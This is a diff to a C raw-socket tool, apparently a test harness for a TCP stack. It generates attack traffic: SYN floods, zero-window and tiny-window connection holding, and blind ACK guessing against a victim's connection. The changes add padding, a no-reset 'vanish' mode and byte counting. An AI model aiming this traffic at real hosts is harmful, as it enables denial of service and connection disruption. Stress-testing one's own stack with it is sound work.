@@ -1,8 +1,11 @@
 // An attacker with a raw socket, at a fixed rate of frames. He keeps no state: what he answers
 // follows from what he receives, so that a small program is as many clients as it likes.
 //
-// Prints one line of JSON: frames sent and received, connections opened. Ends with 0, or with 2
-// when it could not start.
+// Sent to a MAC that nobody has, his frames cost the machine what they cost, and the target's stack
+// next to nothing: what to compare with.
+//
+// Prints one line of JSON: frames and bytes sent, frames received, connections opened. Ends with 0,
+// or with 2 when it could not start.
 #include <errno.h>
 #include <fcntl.h>
 #include <getopt.h>
@@ -14,6 +17,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/param.h>
 #include <sys/socket.h>
 #include <time.h>
 #include <unistd.h>
@@ -34,6 +38,7 @@
 #define PORT_FIRST 10000
 // All frames of TINY in a second.
 #define TINY_PPS 4000
+#define PAD_MAX 1400
 
 enum kind {
 	SYN,     // SYNs from everywhere
@@ -59,10 +64,13 @@ struct attack {
 	uint32_t conns; // 0: as many as come
 	const char *request;
 	size_t request_len;
+	size_t pad;  // of ACK, BLIND: bytes of text
+	bool vanish; // of ZERO, TINY: without a reset
 	int fd;
 	struct rng rng;
 	uint32_t next; // connection
 	uint64_t sent;
+	uint64_t bytes;
 	uint64_t received;
 	uint64_t opened;
 	uint64_t closed;
@@ -87,8 +95,10 @@ static void send_frame(struct attack *a, const struct frame_tcp *tcp)
 	uint8_t frame[FRAME_MAX];
 	size_t len = frame_tcp(frame, tcp);
 
-	if (send(a->fd, frame, len, MSG_DONTWAIT) == (ssize_t)len)
-		a->sent++;
+	if (send(a->fd, frame, len, MSG_DONTWAIT) != (ssize_t)len)
+		return;
+	a->sent++;
+	a->bytes += len;
 }
 
 // The first sequence number of a connection.
@@ -100,6 +110,14 @@ static uint32_t iss(const struct frame_end *me)
 static struct frame_tcp segment(struct attack *a, uint8_t flags)
 {
 	return (struct frame_tcp){.from = a->me, .to = a->target, .flags = flags, .wnd = 0xffff};
+}
+
+static void pad(const struct attack *a, struct frame_tcp *tcp)
+{
+	static const uint8_t text[PAD_MAX];
+
+	tcp->data = text;
+	tcp->len = a->pad;
 }
 
 static void own_end(struct attack *a, struct frame_end *me)
@@ -141,6 +159,7 @@ static void send_guess(struct attack *a)
 	struct frame_tcp tcp = segment(a, FRAME_ACK);
 
 	own_end(a, &tcp.from);
+	pad(a, &tcp);
 	tcp.seq = (uint32_t)rng_u64(&a->rng);
 	tcp.ack = (uint32_t)rng_u64(&a->rng);
 	if (a->kind == BLIND) {
@@ -298,7 +317,7 @@ static void run(struct attack *a)
 			for (unsigned i = 0; i < 64; i++)
 				listen_once(a);
 	}
-	if (a->kind == ZERO || a->kind == TINY) {
+	if ((a->kind == ZERO || a->kind == TINY) && !a->vanish) {
 		uint32_t all = a->next;
 
 		// Twice, since frames are lost in the rush.
@@ -307,10 +326,11 @@ static void run(struct attack *a)
 			reset_all(a, all, 0);
 		}
 	}
-	printf("{\"attack\": \"%s\", \"sent\": %llu, \"received\": %llu, \"opened\": %llu, "
-	       "\"closed\": %llu}\n",
-		names[a->kind], (unsigned long long)a->sent, (unsigned long long)a->received,
-		(unsigned long long)a->opened, (unsigned long long)a->closed);
+	printf("{\"attack\": \"%s\", \"sent\": %llu, \"bytes\": %llu, \"received\": %llu, "
+	       "\"opened\": %llu, \"closed\": %llu}\n",
+		names[a->kind], (unsigned long long)a->sent, (unsigned long long)a->bytes,
+		(unsigned long long)a->received, (unsigned long long)a->opened,
+		(unsigned long long)a->closed);
 }
 
 // --- the command line
@@ -323,11 +343,13 @@ static const char usage[] =
 	"  --mac MAC       the target's\n"
 	"  --dev NAME      where to send (eth1)\n"
 	"  --pps N         frames, or connections, a second (2000)\n"
-	"  --seconds N     (3)\n"
+	"  --seconds N     with a fraction if you like (3)\n"
 	"  --conns N       of zero-window, tiny-window, churn: no more than these\n"
 	"  --victim IP     of blind: whose connection\n"
 	"  --victim-port N\n"
-	"  --request TEXT  of zero-window, tiny-window: an inline command, without its end\n";
+	"  --request TEXT  of zero-window, tiny-window: an inline command, without its end\n"
+	"  --pad N         of ack, blind: bytes of text in each segment, at most 1400\n"
+	"  --vanish        of zero-window, tiny-window: end without a word\n";
 
 static void read_ip(const char *text, uint8_t ip[4])
 {
@@ -377,7 +399,7 @@ static const char *option(struct attack *a, int c, const char *dev)
 		a->pps = strtoull(optarg, NULL, 10);
 		break;
 	case 's':
-		a->ns = strtoull(optarg, NULL, 10) * NS_PER_SEC;
+		a->ns = (uint64_t)(strtod(optarg, NULL) * NS_PER_SEC);
 		break;
 	case 'n':
 		a->conns = (uint32_t)strtoul(optarg, NULL, 10);
@@ -390,6 +412,12 @@ static const char *option(struct attack *a, int c, const char *dev)
 		break;
 	case 'q':
 		set_request(a, optarg);
+		break;
+	case 'b':
+		a->pad = MIN(strtoul(optarg, NULL, 10), PAD_MAX);
+		break;
+	case 'x':
+		a->vanish = true;
 		break;
 	default:
 		fputs(usage, stderr);
@@ -438,7 +466,8 @@ int main(int argc, char **argv)
 	static const struct option options[] = {{"target", 1, NULL, 't'}, {"port", 1, NULL, 'p'},
 		{"mac", 1, NULL, 'm'}, {"dev", 1, NULL, 'd'}, {"pps", 1, NULL, 'r'},
 		{"seconds", 1, NULL, 's'}, {"conns", 1, NULL, 'n'}, {"victim", 1, NULL, 'v'},
-		{"victim-port", 1, NULL, 'w'}, {"request", 1, NULL, 'q'}, {0}};
+		{"victim-port", 1, NULL, 'w'}, {"request", 1, NULL, 'q'},
+		{"pad", 1, NULL, 'b'}, {"vanish", 0, NULL, 'x'}, {0}};
 	struct attack a = {.kind = KINDS,
 		.me = {.mac = {2, 0xaa, 0, 0, 0, 1}},
 		.target = {.port = 8102},
